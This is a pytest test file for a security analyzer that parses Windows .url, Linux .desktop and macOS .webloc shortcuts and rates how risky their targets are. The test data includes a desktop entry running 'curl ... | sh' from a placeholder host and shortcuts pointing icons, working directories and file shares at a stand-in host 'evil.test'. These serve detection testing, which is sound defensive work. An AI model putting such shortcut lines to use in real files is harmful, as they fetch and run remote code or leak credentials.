"""Shortcuts in text form: what they open, what merely showing them reaches for."""

from __future__ import annotations

import plistlib

import pytest

from analyzers.attachments.internet_shortcut import UNIT
from analyzers.model.content import Link
from analyzers.model.observation import Observation, Severity
from analyzers.model.unit import Unreadable
from tests.analyzers.attachments.observed import facts, findings, observe


def url(*lines: str) -> list[Observation]:
    return observe(UNIT, "\r\n".join(["[InternetShortcut]", *lines]).encode(), "a.url", "url")


def entry(*lines: str) -> list[Observation]:
    return observe(UNIT, "\n".join(["[Desktop Entry]", *lines]).encode(), "a.desktop", "desktop")


def test_a_bookmark_only_says_where_it_leads() -> None:
    found = url("URL=https://example.test/a", "IconIndex=0")
    assert {f.rule: f.severity for f in findings(found).values()} == {"shortcut.web": Severity.INFO}
    assert facts(found)["Address"] == "hxxps://example[.]test/a"
    assert [r.source for r in found if isinstance(r, Link)] == ["shortcut"]


@pytest.mark.parametrize(
    ("line", "rule", "severity"),
    [
        ("URL=file://evil.test/a/b.pdf", "shortcut.share", Severity.HIGH),
        ("URL=file://files/a/b.pdf", "shortcut.share", Severity.MEDIUM),
        ("URL=file:///C:/Windows/System32/a.vbs", "shortcut.local", Severity.HIGH),
        ("URL=file:///C:/manual.pdf", "shortcut.local", Severity.LOW),
        (r"IconFile=\\evil.test\a\i.ico", "shortcut.icon.remote", Severity.HIGH),
        (r"WorkingDirectory=\\evil.test@80\x", "shortcut.folder.remote", Severity.HIGH),
    ],
)
def test_what_it_reaches_for_is_a_finding(line: str, rule: str, severity: Severity) -> None:
    assert findings(url(line))[rule].severity is severity


def test_a_desktop_entry_runs_its_command() -> None:
    found = entry("Type=Application", 'Exec=sh -c "curl http://a.test/x | sh"')
    assert findings(found)["shortcut.command"].severity is Severity.HIGH
    assert [r.url for r in found if isinstance(r, Link)] == ["http://a.test/x"]
    assert (
        findings(entry("Exec=/usr/bin/viewer %f"))["shortcut.command"].severity is Severity.MEDIUM
    )
    assert "shortcut.web" in findings(entry("Type=Link", "URL=https://a.test/"))


@pytest.mark.parametrize("form", [plistlib.FMT_XML, plistlib.FMT_BINARY])
def test_a_web_location_is_read_in_both_forms(form: plistlib.PlistFormat) -> None:
    data = plistlib.dumps({"URL": "https://example.test/"}, fmt=form)
    assert "shortcut.web" in findings(observe(UNIT, data, "a.webloc", "webloc"))


@pytest.mark.parametrize("data", [b"bplist00" + bytes(40), b"<plist><dict/></plist>", b"x"])
def test_a_broken_property_list_is_unreadable(data: bytes) -> None:
    with pytest.raises(Unreadable):
        observe(UNIT, data, "a.webloc", "webloc")
